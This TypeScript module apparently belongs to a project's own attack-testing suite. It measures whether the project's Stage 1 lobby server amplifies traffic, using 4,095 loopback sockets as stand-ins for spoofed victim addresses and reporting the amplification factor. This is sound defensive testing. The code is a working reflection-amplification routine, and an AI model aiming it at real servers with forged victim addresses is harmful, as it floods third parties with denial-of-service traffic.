/**
 * Attack 5: the Stage 1 lobby as an amplifier. The lobby relays every datagram to every
 * address it heard from; 4,095 source addresses (127.0.x.y sockets standing in for forged
 * sources, all of which would be the victim's) each say one word, then the attacker's 4 KiB
 * datagrams come back 4,095 times each. Reported: bytes the "victim" sockets were sent over
 * bytes the attacker sent.
 *
 * @module
 */

import { encodeStage1Datagram, MAX_DATAGRAM_SIZE } from "../../protocol/mod.ts";
import { manySourceIp, otherIp } from "./loopback.ts";
import { paced, sleep } from "./pace.ts";
import type { Attack } from "./types.ts";
import { arrivals, bytesReceived, UdpSink } from "./udp_sink.ts";

/** One below the lobby's 4,096 clients, leaving room for the attacker's own address. */
const SOURCES = 4_095;
const REGISTER_PER_SECOND = 1_000;
/** Attacker datagrams per second, 4 KiB each. */
const DATAGRAMS_PER_SECOND = 10;
const MAX_DATAGRAMS = 10_000;
/** Registration's own relays (n² small datagrams) are over once nothing arrived for this long. */
const QUIET_MS = 1_000;
const SETTLE_LIMIT_MS = 30_000;
const POLL_MS = 200;
const MB = 1_000_000;
const KB = 1_000;

/** See the module comment. */
export const lobbyAttack: Attack = {
  id: 5,
  title: "Stage 1 lobby relay from 4,095 sources",
  server: { lobby: true },
  async run(ctx) {
    const lobbyPort = ctx.lobbyPort;
    if (lobbyPort === null) throw new Error("the server runs no lobby (--lobby-port)");
    const victims = Array.from({ length: SOURCES }, (_, i) => new UdpSink(manySourceIp(i)));
    const attacker = new UdpSink(otherIp(0));
    try {
      ctx.progress(`registering ${SOURCES} lobby sources`);
      const hello = encodeStage1Datagram("v", "hi");
      await paced({
        rate: REGISTER_PER_SECOND,
        maxInFlight: SOURCES,
        maxCount: SOURCES,
        signal: AbortSignal.timeout(SETTLE_LIMIT_MS),
      }, (i) => victims[i].sendToServer(hello, lobbyPort, ctx.traffic));
      await settle(victims);
      const big = encodeStage1Datagram("a", "x".repeat(MAX_DATAGRAM_SIZE - 2));
      let sent = 0;
      const reached = await arrivals(victims, () =>
        ctx.window(async (signal) => {
          const result = await paced({
            rate: DATAGRAMS_PER_SECOND,
            maxInFlight: 1,
            maxCount: MAX_DATAGRAMS,
            signal,
          }, () => attacker.sendToServer(big, lobbyPort, ctx.traffic));
          sent = result.started;
          await settle(victims); // the last relays are still on their way
        }));
      const attackBytes = sent * big.length;
      const factor = attackBytes === 0 ? 0 : reached.bytes / attackBytes;
      return {
        text: `${sent} × ${big.length} B sent (${(attackBytes / KB).toFixed(0)} KB) → ` +
          `${(reached.bytes / MB).toFixed(1)} MB to the victim sockets ` +
          `(${factor.toFixed(0)}×, ${reached.dropped} dropped by their buffers)`,
        concern: factor > 1 ? `lobby amplifies ${factor.toFixed(0)}×` : undefined,
        values: {
          sources: SOURCES,
          datagramsSent: sent,
          attackBytes,
          victimBytes: reached.bytes,
          victimDatagrams: reached.datagrams,
          amplification: factor,
        },
      };
    } finally {
      await Promise.all([...victims, attacker].map((sink) => sink.close()));
    }
  },
};

/** Waits until nothing reached `sinks` for a while (bounded). */
async function settle(sinks: readonly UdpSink[]): Promise<void> {
  const start = performance.now();
  let last = bytesReceived(sinks);
  let lastChange = performance.now();
  while (performance.now() - start < SETTLE_LIMIT_MS) {
    await sleep(POLL_MS);
    const now = bytesReceived(sinks);
    if (now !== last) {
      last = now;
      lastChange = performance.now();
    } else if (performance.now() - lastChange >= QUIET_MS) {
      return;
    }
  }
}
